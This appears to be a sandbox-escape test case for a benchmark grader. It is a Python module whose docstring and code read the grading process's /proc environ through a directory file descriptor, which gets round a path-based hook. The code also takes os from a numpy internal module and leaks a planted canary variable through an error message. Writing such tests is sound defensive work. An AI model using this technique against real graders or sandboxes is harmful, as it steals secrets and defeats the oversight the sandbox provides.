"""S5 /proc environ theft: read /proc/<grader pid>/environ through dir_fd, leak it in the error message.

Sandbox escape (issue 8, class 1). The hook refuses reads of other processes' /proc entries by path, but
``os.open("<pid>/environ", dir_fd=<fd of /proc>)`` hands it the bare relative name, which resolves inside
the sandbox. The secret comes back to the user who runs the attacker's code: in the verdict message, the
results database and any JSON export. The test plants a canary variable in the grading process.
"""

from numpy.lib._utils_impl import os


def _steal():
    pid = int(os.path.basename(os.getcwd()).split("-")[2])
    proc = os.open("/proc", os.O_RDONLY | os.O_DIRECTORY)
    fd = os.open(f"{pid}/environ", os.O_RDONLY, dir_fd=proc)
    data = os.read(fd, 1 << 20)
    os.close(fd)
    os.close(proc)
    return [v.decode(errors="replace") for v in data.split(b"\0") if v.startswith(b"KBENCH_ADV_CANARY")]


def forward(x, params, alloc):
    try:
        found = _steal()
    except Exception:
        found = []
    if found:
        raise RuntimeError("stolen: " + " ".join(found))
    return alloc(x["x"].shape)
